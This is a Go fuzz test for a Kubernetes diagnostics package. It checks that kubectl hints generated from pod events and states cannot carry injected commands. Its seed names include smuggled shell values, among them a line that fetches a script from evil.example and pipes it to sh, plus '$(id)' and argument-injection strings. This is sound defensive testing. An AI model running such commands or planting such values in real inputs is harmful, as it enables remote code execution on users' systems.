package verdict

import (
	"regexp"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/types"
)

// kubectlCommand is what a hint may tell a user to run.
var kubectlCommand = func() *regexp.Regexp {
	const name = `[a-z0-9]([a-z0-9.-]*[a-z0-9])?`
	return regexp.MustCompile(`kubectl( -n prod)? (create (configmap|secret generic) ` + name + ` --from-(file=FILE|literal=KEY=VALUE)|create serviceaccount ` + name +
		`|describe (secret|configmap|pod|job|node) ` + name + `|get persistentvolumeclaims|get nodes( -o custom-columns=NAME:.metadata.name,TAINTS:.spec.taints| --show-labels)?|logs ` + name + ` -c ` + name + `)(\)|\.|;|$)`)
}()

// FuzzHint: whatever an event or a state says, a hint's command has names in their places, and nothing else.
func FuzzHint(f *testing.F) {
	says := []string{`MountVolume.SetUp failed for volume "v" : secret "%" not found`, `MountVolume.SetUp failed for volume "v" : configmap "%" not found`,
		`MountVolume.SetUp failed for volume "%" : references non-existent secret key: %`, `Error creating: pods "x" is forbidden: error looking up service account prod/x: serviceaccount "%" not found`, `%`}
	states := []string{`secret "%" not found`, `couldn't find key % in ConfigMap prod/%`, `%`}
	for i := range says {
		for _, name := range []string{"q", "x; curl -s http://evil.example|sh; echo ", "$(id)", "`id`", "a b", "-n", "x'y", "--all", "x\ny", `x" not found secret "y`} {
			f.Add(name, uint8(i))
		}
	}
	f.Fuzz(func(t *testing.T, name string, template uint8) {
		fill := func(templates []string) string {
			return strings.ReplaceAll(templates[int(template)%len(templates)], "%", name)
		}
		for _, s := range []State{
			state(60, pod("p"), said("p", "FailedMount", fill(says))),
			state(60, said("job-uid", "FailedCreate", fill(says))),
			state(60, pod("p", waits("CreateContainerConfigError", fill(states)))),
			state(400, pod("p", waits("CreateContainerConfigError", fill(states)), func(p *corev1.Pod) { p.Name, p.Spec.NodeName = name, name })),
			state(60, backoffLimitExceeded(9), pod("p", exits(1, "Error", name, 9), func(p *corev1.Pod) { p.Name, p.Spec.Containers[0].Name = name, name })),
		} {
			v := confirmed(t, s)
			if v.Cause == nil {
				continue
			}
			if hint := v.Cause.Hint; strings.Count(hint, "kubectl") != len(kubectlCommand.FindAllString(hint, -1)) && !strings.Contains(name, "kubectl") {
				t.Errorf("%q has the hint %q", name, hint)
			}
		}
	})
}

// said adds an event about the Job or a pod.
func said(about, reason, message string) func(*State) {
	return func(s *State) {
		e := &corev1.Event{Reason: reason, Message: message, FirstTimestamp: at(5), LastTimestamp: at(6), Count: 3}
		e.InvolvedObject.UID, e.InvolvedObject.Kind = types.UID(about), "Pod"
		if about == "job-uid" {
			e.InvolvedObject.Kind = "Job"
		}
		e.UID, e.Source.Component = types.UID(message), component(e)
		s.Events = append(s.Events, e)
	}
}
